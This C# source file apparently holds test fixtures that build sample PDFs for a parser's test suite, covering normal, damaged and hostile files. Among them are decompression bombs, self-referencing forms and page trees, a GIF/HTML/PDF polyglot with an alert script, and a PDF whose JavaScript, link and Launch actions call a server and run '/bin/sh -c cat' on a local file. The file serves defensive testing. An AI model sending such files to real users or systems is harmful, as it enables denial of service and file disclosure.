using System.Globalization;
using System.Text;

namespace OpenClaw.Tests.Core.Media;

/// <summary>PDFs as users and attackers send them, made from nothing. The readable ones say <see cref="Sentence"/>.</summary>
public static class PdfSamples
{
    /// <summary>Much shorter than the usual least text.</summary>
    public const string Sentence = "The quick brown fox jumps over the lazy dog.";

    public const string Chinese = "春眠不覺曉，處處聞啼鳥。";

    private const string Helvetica = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>";
    private const int MebibyteOfCommands = 1024 * 1024 / 4;

    /// <summary>Pages of Latin text; the default is one page with the sentence.</summary>
    public static byte[] Text(params string[] pages) => Text(new PdfWriter(), pages);

    /// <summary>Pages that say <c>Page 1</c> and so on.</summary>
    public static byte[] Pages(int count) =>
        Text([.. Enumerable.Range(1, count).Select(static n => string.Create(CultureInfo.InvariantCulture, $"Page {n}"))]);

    /// <summary>Three characters outside the basic plane.</summary>
    public static byte[] WithSurrogates() => WithToUnicode(["D83DDE00", "D83DDE00", "D83DDE00"]);

    /// <summary>Chinese in a font that is neither embedded nor has an encoding of its own: only its ToUnicode map tells what it
    /// says.</summary>
    public static byte[] WithToUnicode(string text = Chinese) =>
        WithToUnicode([.. text.Select(static c => ((int)c).ToString("X4", CultureInfo.InvariantCulture))]);

    /// <summary>The tiny PDF that API compliance suites send: no cross-reference table, no <c>startxref</c>.</summary>
    public static byte[] WithoutXref()
    {
        const string content = $"BT /F1 12 Tf 72 720 Td ({Sentence}) Tj ET";
        return Encoding.ASCII.GetBytes($"""
            %PDF-1.4
            1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
            2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
            3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>endobj
            4 0 obj<</Length {content.Length}>>stream
            {content}
            endstream endobj
            5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj
            trailer<</Root 1 0 R>>
            """);
    }

    public static byte[] WithBrokenStartXref()
    {
        var pdf = Text();
        var at = pdf.AsSpan().LastIndexOf("startxref\n"u8) + "startxref\n".Length;
        pdf.AsSpan(at, 2).Fill((byte)'9');
        return pdf;
    }

    /// <summary>What a download that broke off leaves.</summary>
    public static byte[] Truncated() => Text()[..^(Text().Length / 3)];

    /// <summary>AES-256; without a user password every reader opens it.</summary>
    public static byte[] Encrypted(string userPassword = "") =>
        Text(new PdfWriter { Encryption = new PdfEncryption(userPassword, "owner") }, Sentence);

    /// <summary>Pages that are one picture each and have no text.</summary>
    public static byte[] Scanned(int width = 248, int height = 351, int pages = 1)
    {
        var pdf = new PdfWriter();
        AddScan(pdf, width, height, pages);
        return pdf.ToBytes();
    }

    /// <summary>An empty page of the given size in points.</summary>
    public static byte[] EmptyPage(string box, string entries = "")
    {
        var pdf = new PdfWriter();
        pdf.AddPage(pdf.AddStream("0 0 1 rg 0 0 10 10 re f"), box: box, entries: entries);
        return pdf.ToBytes();
    }

    /// <summary>400 million pixels in a kilobyte or two.</summary>
    public static byte[] HugeImage()
    {
        var pdf = new PdfWriter();
        var pixels = PdfWriter.Deflate(PdfWriter.DeflateRepeated([], new byte[1_000_000], 400));
        var image = AddImage(pdf, pixels, 20_000, 20_000, "/ColorSpace /DeviceGray /Filter [/FlateDecode /FlateDecode]");
        pdf.AddPage(pdf.AddStream("595 0 0 842 0 0 cm /Im1 Do"), $"/XObject << /Im1 {image} 0 R >>");
        return pdf.ToBytes();
    }

    /// <summary>A gibibyte of drawing commands in some kilobytes.</summary>
    public static byte[] CommandBomb()
    {
        var pdf = new PdfWriter();
        pdf.AddPage(pdf.AddStream(Repeated("q Q\n", 1024), "/Filter [/FlateDecode /FlateDecode]"));
        return pdf.ToBytes();
    }

    /// <summary>A page of text, then one with a hundred million characters.</summary>
    public static byte[] TextBomb()
    {
        var pdf = new PdfWriter();
        var font = $"/Font << /F1 {pdf.Add(Helvetica)} 0 R >>";
        pdf.AddPage(pdf.AddStream($"BT /F1 12 Tf 50 700 Td ({Sentence}) Tj ET"), font);
        var content = PdfWriter.DeflateRepeated(
            "BT /F1 12 Tf 50 700 Td "u8, Encoding.ASCII.GetBytes($"({new string('x', 100)}) Tj\n"), 1_000_000);
        pdf.AddPage(pdf.AddStream(PdfWriter.Deflate(content), "/Filter [/FlateDecode /FlateDecode]"), font);
        return pdf.ToBytes();
    }

    /// <summary>Forms that draw ten forms each, twelve deep.</summary>
    /// <param name="scanned">Pages before it that are pictures.</param>
    public static byte[] NestedForms(int scanned = 0)
    {
        var pdf = new PdfWriter();
        AddScan(pdf, 100, 100, scanned);
        var form = pdf.AddStream("0 0 1 1 re f", "/Type /XObject /Subtype /Form /BBox [0 0 9 9]");
        for (var depth = 0; depth < 12; depth++)
        {
            form = pdf.AddStream(
                string.Concat(Enumerable.Repeat("/F Do ", 10)),
                $"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F {form} 0 R >> >>");
        }

        pdf.AddPage(pdf.AddStream("/F Do"), $"/XObject << /F {form} 0 R >>");
        return pdf.ToBytes();
    }

    /// <summary>A form that draws itself, beside the sentence.</summary>
    public static byte[] CyclicForm()
    {
        var pdf = new PdfWriter();
        var font = pdf.Add(Helvetica);
        var form = pdf.AddStream(
            "/F Do", $"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F {pdf.Next} 0 R >> >>");
        pdf.AddPage(pdf.AddStream(
            $"/F Do BT /F1 12 Tf 50 700 Td ({Sentence}) Tj ET"), $"/XObject << /F {form} 0 R >> /Font << /F1 {font} 0 R >>");
        return pdf.ToBytes();
    }

    /// <summary>The page tree is its own child.</summary>
    public static byte[] CyclicPageTree() => new PdfWriter { Kids = $"{PdfWriter.PageTree} 0 R {PdfWriter.PageTree} 0 R" }.ToBytes();

    public static byte[] NoPages() => new PdfWriter().ToBytes();

    /// <summary>No cross-reference table, and an object number that asks for one of terabytes. A damaged file once had it.</summary>
    public static byte[] HugeObjectNumber() =>
        [.. "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n720227124632019432 0 obj\n<<>>\nendobj\ntrailer<</Root 1 0 R>>\n"u8];

    /// <summary>Its catalog is in an object stream that grows to a gibibyte; the cross-reference stream is sound.</summary>
    public static byte[] ObjectStreamBomb()
    {
        const string objects = "1 0 2 999999999 << /Type /Catalog /Pages 2 0 R >>";
        var inner = PdfWriter.DeflateRepeated(Encoding.ASCII.GetBytes(objects), Spaces(1024 * 1024), 1024);
        var content = PdfWriter.Deflate(inner);
        using var file = new MemoryStream();
        file.Write("%PDF-1.7\n"u8);
        var at = (int)file.Length;
        file.Write(Encoding.ASCII.GetBytes(
            $"3 0 obj\n<< /Type /ObjStm /N 2 /First 16 /Length {content.Length} /Filter [/FlateDecode /FlateDecode] >>\nstream\n"));
        file.Write([.. content, .. "\nendstream\nendobj\n"u8]);
        var xref = (int)file.Length;
        byte[] table = [0, 0, 0, 0, 2, 0, 3, 0, 2, 0, 3, 1, 1, (byte)(at >> 8), (byte)at, 0, 1, (byte)(xref >> 8), (byte)xref, 0];
        file.Write(Encoding.ASCII.GetBytes($"4 0 obj\n<< /Type /XRef /Size 5 /W [1 2 1] /Root 1 0 R /Length {table.Length} >>\nstream\n"));
        file.Write([.. table, .. Encoding.ASCII.GetBytes($"\nendstream\nendobj\nstartxref\n{xref}\n%%EOF\n")]);
        return file.ToArray();
    }

    /// <summary>Scripts, a launched program, links, and a stream and an image that want another file: all in the name of the
    /// sentence.</summary>
    /// <param name="file">Absolute path of the file it wants.</param>
    /// <param name="url">Of the server it wants to call.</param>
    public static byte[] WithActions(string file, Uri url)
    {
        var pdf = new PdfWriter();
        var font = pdf.Add(Helvetica);
        var script = pdf.Add($"<< /S /JavaScript /JS (app.launchURL\\(\"{url}\"\\); this.submitForm\\(\"{url}\"\\);) >>");
        var launch = pdf.Add($"<< /S /Launch /F (/bin/sh) /Unix << /F (/bin/sh) /P (-c 'cat {file}') >> /Next {script} 0 R >>");
        var fetch = pdf.Add($"<< /S /URI /URI ({url}) /Next {launch} 0 R >>");
        var embedded = pdf.Add($"<< /Type /Filespec /FS /URL /F ({url}) >>");
        var image = AddImage(pdf, [], 8, 8, $"/ColorSpace /DeviceGray /F {embedded} 0 R");
        pdf.CatalogEntries = $"/OpenAction {fetch} 0 R /AA << /WC {script} 0 R >>";
        pdf.AddPage(
            pdf.AddStream($"BT /F1 12 Tf 50 700 Td ({Sentence}) Tj ET /Im1 Do"),
            $"/Font << /F1 {font} 0 R >> /XObject << /Im1 {image} 0 R >>",
            entries: $"/AA << /O {launch} 0 R >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A {fetch} 0 R >>]");
        pdf.AddPage(pdf.AddStream("", $"/F ({file})"), $"/Font << /F1 {font} 0 R >>");
        return pdf.ToBytes();
    }

    /// <summary>A GIF to who looks at the first bytes, a PDF to who looks for one, an HTML page to who sniffs.</summary>
    public static byte[] Polyglot() => [.. "GIF89a\x01\0\x01\0\0\0\0<html><script>alert(1)</script>\n"u8, .. Text(), .. "PK\x05\x06"u8];

    private static byte[] Text(PdfWriter pdf, params string[] pages)
    {
        var font = pdf.Add(Helvetica);
        foreach (var page in pages is [] ? [Sentence] : pages)
        {
            var lines = page.Split('\n').Select(
                static line => $"({line.Replace("\\", "\\\\").Replace("(", "\\(").Replace(")", "\\)")}) Tj T*");
            pdf.AddPage(pdf.AddStream($"BT /F1 12 Tf 14 TL 50 780 Td {string.Join('\n', lines)} ET"), $"/Font << /F1 {font} 0 R >>");
        }

        return pdf.ToBytes();
    }

    private static byte[] WithToUnicode(string[] characters)
    {
        var pdf = new PdfWriter();
        var map = string.Join('\n', characters.Select(static (c, at) => $"<{at + 1:X4}> <{c}>"));
        var unicode = pdf.AddStream($"""
            /CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapType 2 def
            1 begincodespacerange <0000> <FFFF> endcodespacerange
            {characters.Length} beginbfchar
            {map}
            endbfchar endcmap end end
            """);
        var info = pdf.Add("<< /Type /FontDescriptor /FontName /ABCDEF+Sample /Flags 4 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 >>");
        var font = pdf.Add($"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /ABCDEF+Sample /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> /FontDescriptor {info} 0 R /DW 1000 >>");
        var whole = pdf.Add($"<< /Type /Font /Subtype /Type0 /BaseFont /ABCDEF+Sample /Encoding /Identity-H /DescendantFonts [{font} 0 R] /ToUnicode {unicode} 0 R >>");
        var codes = string.Concat(
            Enumerable.Range(1, characters.Length).Select(static n => n.ToString("X4", CultureInfo.InvariantCulture)));
        pdf.AddPage(pdf.AddStream($"BT /F1 24 Tf 50 700 Td <{codes}> Tj ET"), $"/Font << /F1 {whole} 0 R >>");
        return pdf.ToBytes();
    }

    private static void AddScan(PdfWriter pdf, int width, int height, int pages)
    {
        var colors = new byte[width * height * 3];
        for (var at = 0; at < colors.Length; at++)
        {
            colors[at] = (byte)(at / width);
        }

        var image = AddImage(pdf, PdfWriter.Deflate(colors), width, height, "/ColorSpace /DeviceRGB /Filter /FlateDecode");
        for (var page = 0; page < pages; page++)
        {
            pdf.AddPage(pdf.AddStream("595 0 0 842 0 0 cm /Im1 Do"), $"/XObject << /Im1 {image} 0 R >>");
        }
    }

    private static int AddImage(PdfWriter pdf, byte[] data, int width, int height, string entries) =>
        pdf.AddStream(data, $"/Type /XObject /Subtype /Image /Width {width} /Height {height} /BitsPerComponent 8 {entries}");

    private static byte[] Repeated(string command, int mebibytes) =>
        PdfWriter.Deflate(PdfWriter.DeflateRepeated(
            [], Encoding.ASCII.GetBytes(string.Concat(Enumerable.Repeat(command, MebibyteOfCommands))), mebibytes));

    private static byte[] Spaces(int count)
    {
        var spaces = new byte[count];
        spaces.AsSpan().Fill((byte)' ');
        return spaces;
    }
}
